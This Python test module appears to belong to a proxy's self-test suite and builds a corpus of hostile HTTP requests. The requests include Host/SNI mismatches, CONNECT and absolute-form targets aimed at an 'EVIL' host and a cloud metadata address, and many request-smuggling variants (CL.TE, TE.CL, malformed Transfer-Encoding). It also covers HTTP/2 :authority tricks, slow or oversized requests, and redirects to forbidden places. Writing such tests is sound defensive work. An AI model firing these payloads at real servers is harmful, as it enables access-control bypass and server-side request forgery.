"""Attempts by requests that say one thing to who decides and another to who answers."""

from __future__ import annotations

from stockade.selftest.corpus.attempt import CRLF, Attempt, asking, get, lines
from stockade.selftest.hosts import ADDRESSES, API, EVIL, METADATA, NAIVE, OTHER, TURNING

_GOOD = "/public/{mark}"
_INNER = get("/private/{mark}", host=EVIL)
_SIZE = f"{len(_INNER):x}"
_CHUNK = f"{_SIZE}{CRLF}{_INNER}{CRLF}0{CRLF}{CRLF}"
_CHUNKED = "Transfer-Encoding: chunked"


def _mismatch() -> list[Attempt]:
    category = "host mismatch"
    others = (EVIL, OTHER, NAIVE, ADDRESSES[EVIL], METADATA, "localhost", f"{API}.{EVIL}")
    return [
        *(asking(category, f"Host: {host}", get(_GOOD, host=host)) for host in others),
        *(asking(category, f"SNI: {host}", get(_GOOD), tls=host) for host in (EVIL, OTHER, NAIVE)),
        *(
            asking(category, f"SNI and Host: {host}", get(_GOOD, host=host), tls=host)
            for host in (EVIL, OTHER, "{mark}." + EVIL)
        ),
        asking(category, "no SNI", get(_GOOD, host=EVIL), tls="-"),
        asking(category, "Host with another port", get(_GOOD, host=f"{API}:8443")),
        asking(category, "Host with a user part", get(_GOOD, host=f"{API}@{EVIL}")),
        asking(category, "Host with a comma", get(_GOOD, host=f"{API}, {EVIL}")),
        asking(category, "Host with a path", get(_GOOD, host=f"{EVIL}/{API}")),
        asking(category, "Host with a tab", get(_GOOD, host=f"{API}\t{EVIL}")),
        asking(category, "two Hosts", get(_GOOD, f"Host: {EVIL}")),
        asking(category, "Host twice, evil first", get(_GOOD, f"Host: {API}", host=EVIL)),
        asking(category, "empty Host", get(_GOOD, host="")),
        asking(category, "no Host", lines(f"GET {_GOOD} HTTP/1.1", "Connection: close")),
        asking(category, "HTTP/1.0 without Host", lines(f"GET {_GOOD} HTTP/1.0")),
        asking(category, "HTTP/0.9", f"GET {_GOOD}{CRLF}"),
        asking(category, "plain HTTP where TLS is spoken", get(_GOOD), tls=""),
        asking(
            "host mismatch", "evil's request on a kept connection",
            lines(f"GET {_GOOD} HTTP/1.1", f"Host: {API}") + get(_GOOD, host=EVIL),
        ),
    ]  # fmt: skip


def _targets() -> list[Attempt]:
    category = "target form"
    return [
        asking(category, "absolute, to evil", get(f"https://{EVIL}{_GOOD}")),
        asking(category, "absolute, plain, to evil", get(f"http://{EVIL}{_GOOD}")),
        asking(category, "absolute, granted Host", get(f"https://{EVIL}{_GOOD}", host=API)),
        asking(category, "absolute, user part", get(f"https://{API}@{EVIL}{_GOOD}")),
        asking(category, "absolute, other scheme", get(f"ftp://{EVIL}{_GOOD}")),
        asking(category, "absolute, to metadata", get(f"http://{METADATA}/latest/{{mark}}")),
        asking(category, "network path", get(f"//{EVIL}{_GOOD}")),
        asking(category, "authority form", get(f"{EVIL}:443")),
        asking(category, "asterisk", get("*", "X-Mark: {mark}", method="OPTIONS")),
        *(
            asking(category, f"CONNECT {to}",
                   lines(f"CONNECT {to} HTTP/1.1", f"Host: {to}") + "{mark}")
            for to in (f"{EVIL}:443", f"{ADDRESSES[EVIL]}:443", f"{API}:22", f"{METADATA}:80")
        ),
        asking(category, "CONNECT with a granted Host", get(f"{EVIL}:443", method="CONNECT")),
        *(
            asking(category, f"a proxy's words to {port}",
                   get(f"http://{EVIL}/{{mark}}", host=EVIL),
                   host=ADDRESSES[EVIL], tls="", port=port)
            for port in (3128, 8080)
        ),
    ]  # fmt: skip


def _smuggling() -> list[Attempt]:
    category = "smuggling"

    def post(name: str, *fields: str, body: str, first: str = f"POST {_GOOD} HTTP/1.1") -> Attempt:
        return asking(
            category,
            name,
            lines(first, f"Host: {NAIVE}", *fields, body=body),
            host=NAIVE,
            plain=True,
        )

    clte = f"0{CRLF}{CRLF}{_INNER}"
    length = f"Content-Length: {len(clte)}"
    variants = {
        "a tab before": "Transfer-Encoding:\tchunked",
        "a space before the colon": "Transfer-Encoding : chunked",
        "in capitals": "TRANSFER-ENCODING: CHUNKED",
        "a word before": "Transfer-Encoding: x, chunked",
        "a word behind": "Transfer-Encoding: chunked, identity",
        "quoted": 'Transfer-Encoding: "chunked"',
        "misspelt": "Transfer-Encoding: xchunked",
        "two fields": f"Transfer-Encoding: chunked{CRLF}Transfer-Encoding: x",
        "folded": f"Transfer-Encoding:{CRLF} chunked",
        "a space at the line's start": " Transfer-Encoding: chunked",
        "a vertical tab": "Transfer-Encoding: \x0bchunked",
        "an underscore": "Transfer_Encoding: chunked",
        "a bare LF before": f"X: y\n{_CHUNKED}",
        "a bare CR before": f"X: y\r{_CHUNKED}",
        "NUL behind": "Transfer-Encoding: chunked\0",
    }
    return [
        post("CL.TE", length, _CHUNKED, body=clte),
        post("TE.CL", _CHUNKED, "Content-Length: 4", body=_CHUNK),
        *(post(f"TE.TE, {name}", length, field, body=clte) for name, field in variants.items()),
        post("CL.CL", "Content-Length: 0", f"Content-Length: {len(_INNER)}", body=_INNER),
        post("CL list", f"Content-Length: 0, {len(_INNER)}", body=_INNER),
        post("CL with a sign", f"Content-Length: +{len(_INNER)}", body=_INNER),
        post("CL in hexadecimal", "Content-Length: 0x0", body=_INNER),
        post("CL negative", "Content-Length: -1", body=_INNER),
        post("CL with a space within", "Content-Length: 0 0", body=_INNER),
        post("CL beyond 64 bits", "Content-Length: 18446744073709551616", body=_INNER),
        post("CL empty", "Content-Length:", body=_INNER),
        post("no length", body=_INNER),
        post("GET with a body", "Content-Length: 0", body=_INNER, first=f"GET {_GOOD} HTTP/1.1"),
        post("HTTP/1.0 with TE", _CHUNKED, body=_CHUNK, first=f"POST {_GOOD} HTTP/1.0"),
        post("a version of its own", _CHUNKED, body=_CHUNK, first=f"POST {_GOOD} HTTP/1.9"),
        post("chunk extension", _CHUNKED, body=f"2;a=b\n{_INNER}{CRLF}ab{CRLF}0{CRLF}{CRLF}"),
        post("chunk extension with CR", _CHUNKED, body=f"2;\rx{CRLF}ab{CRLF}0{CRLF}{CRLF}{_INNER}"),
        post("chunk size with 0x", _CHUNKED, body=f"0x2{CRLF}ab{CRLF}0{CRLF}{CRLF}{_INNER}"),
        post("chunk size too big", _CHUNKED, body=f"fffffffffffffffff{CRLF}{_INNER}"),
        post("chunk size negative", _CHUNKED, body=f"-1{CRLF}{_INNER}"),
        post("chunk ended by LF", _CHUNKED, body=f"2\nab\n0\n\n{_INNER}"),
        post("trailers that name a host", _CHUNKED,
             body=f"2{CRLF}ab{CRLF}0{CRLF}Host: {EVIL}{CRLF}Content-Length: 9{CRLF}{CRLF}"),
        post("folded field", f"X-A: b{CRLF}\tHost: {EVIL}", body=""),
        post("bare LF in a field", f"X-A: b\nHost: {EVIL}", body=""),
        post("bare LF for all ends", body="",
             first=f"GET {_GOOD} HTTP/1.1\nHost: {EVIL}\n\nX: y"),
        post("NUL in a field", "X-A: b\0c", body=""),
        post("NUL in a name", "X-\0A: b", body=""),
        post("no colon", "X-A", body=""),
        post("Connection names the length", f"Connection: Content-Length{CRLF}{length}", body=clte),
        post("Expect", "Expect: 100-continue", length, body=clte),
        post("Upgrade to h2c", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c",
             "HTTP2-Settings: AAMAAABkAAQAAP__", body=_INNER),
        post("space in the target", body="", first=f"GET {_GOOD} HTTP/1.1 /private HTTP/1.1"),
        post("line within the target", body="", first=f"GET {_GOOD}\rGET /private HTTP/1.1"),
    ]  # fmt: skip


def _websockets() -> list[Attempt]:
    fields = (
        "Upgrade: websocket", "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: c3RvY2thZGUtdGVzdC0w",
    )  # fmt: skip

    def upgrade(
        name: str, target: str, said: str = API, host: str = API, tls: str | None = None
    ) -> Attempt:
        text = lines(f"GET {target} HTTP/1.1", f"Host: {said}", "Connection: Upgrade", *fields)
        return asking("WebSocket", name, text + "{mark}", host=host, tls=tls)

    return [
        upgrade("to a path that is not granted", "/private/{mark}"),
        upgrade("to evil by Host", _GOOD, EVIL),
        upgrade("to evil by Host and SNI", _GOOD, EVIL, tls=EVIL),
        upgrade("absolute, to evil", f"wss://{EVIL}{_GOOD}"),
        upgrade("evil's own address", _GOOD, EVIL, host=ADDRESSES[EVIL]),
    ]  # fmt: skip


def _http2() -> list[Attempt]:
    category = "HTTP/2"
    preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\0\0\0\x04\0\0\0\0\0"
    # HEADERS of stream 1, literals without indexing (RFC 7541, 6.2.2): :authority is evil.
    words = ((":method", "GET"), (":scheme", "https"), (":path", "/public/a"), (":authority", EVIL))
    block = "".join(f"\0{chr(len(k))}{k}{chr(len(v))}{v}" for k, v in words)
    frame = f"\0\0{chr(len(block))}\x01\x05\0\0\0\x01{block}"
    own = block.replace(EVIL, API).replace(chr(len(EVIL)) + API, chr(len(API)) + API)
    other_host = own + f"\0\x04host{chr(len(EVIL))}{EVIL}"
    second = f"\0\0{chr(len(other_host))}\x01\x05\0\0\0\x01{other_host}"
    private = own.replace("/public/a", "/private/")
    third = f"\0\0{chr(len(private))}\x01\x05\0\0\0\x01{private}"
    return [
        asking(category, ":authority of evil", preface + frame, alpn="h2"),
        asking(category, "host beside :authority", preface + second, alpn="h2"),
        asking(category, "a path that is not granted", preface + third, alpn="h2"),
        asking(category, ":authority of evil, without ALPN", preface + frame),
        asking(category, "frames cut short", preface + frame[:20], alpn="h2"),
        asking(category, "prior knowledge without TLS", preface + frame, tls=""),
    ]


def _burdens() -> list[Attempt]:
    category = "size and time"
    return [
        asking(category, "a field of 128 KiB", get(_GOOD, "X-A: " + "a" * 131_072, host=EVIL)),
        asking(category, "two thousand fields", get(_GOOD, *["X-A: b"] * 2000, host=EVIL)),
        asking(category, "a target of 64 KiB", get(_GOOD + "a" * 65_536, host=EVIL)),
        asking(category, "slow head to evil", get(_GOOD, host=EVIL), seconds=3),
        asking(category, "slow head to a path that is not granted", get("/private/{mark}"),
               seconds=3),
        asking(category, "slow body that goes on as another request", lines(
            f"POST {_GOOD} HTTP/1.1", f"Host: {NAIVE}", f"Content-Length: {len(_INNER)}",
            body=_INNER * 2), host=NAIVE, seconds=3),
        asking(category, "never ended head",
               f"GET {_GOOD} HTTP/1.1{CRLF}Host: {EVIL}{CRLF}", seconds=3),
    ]  # fmt: skip


def _redirects() -> list[Attempt]:
    places = {
        "evil": f"https://{EVIL}/{{mark}}",
        "evil, plain": f"http://{EVIL}/{{mark}}",
        "evil's address": f"http://{ADDRESSES[EVIL]}/{{mark}}",
        "metadata": f"http://{METADATA}/{{mark}}",
        "a path that is not granted": f"https://{API}/private/{{mark}}",
        "a turning name's other port": f"http://{TURNING}/{{mark}}",
    }
    start = f"https://{API}/public/redirect?m={{mark}}"
    return [
        Attempt(
            "redirect", f"{code} to {name}", "fetch", {"url": f"{start}&code={code}&to={place}"}
        )
        for name, place in places.items()
        for code in ((301, 302, 303, 307) if name == "evil" else (302,))
    ]


ATTEMPTS = [
    *(*_mismatch(), *_targets(), *_smuggling(), *_websockets()),
    *(*_http2(), *_burdens(), *_redirects()),
]
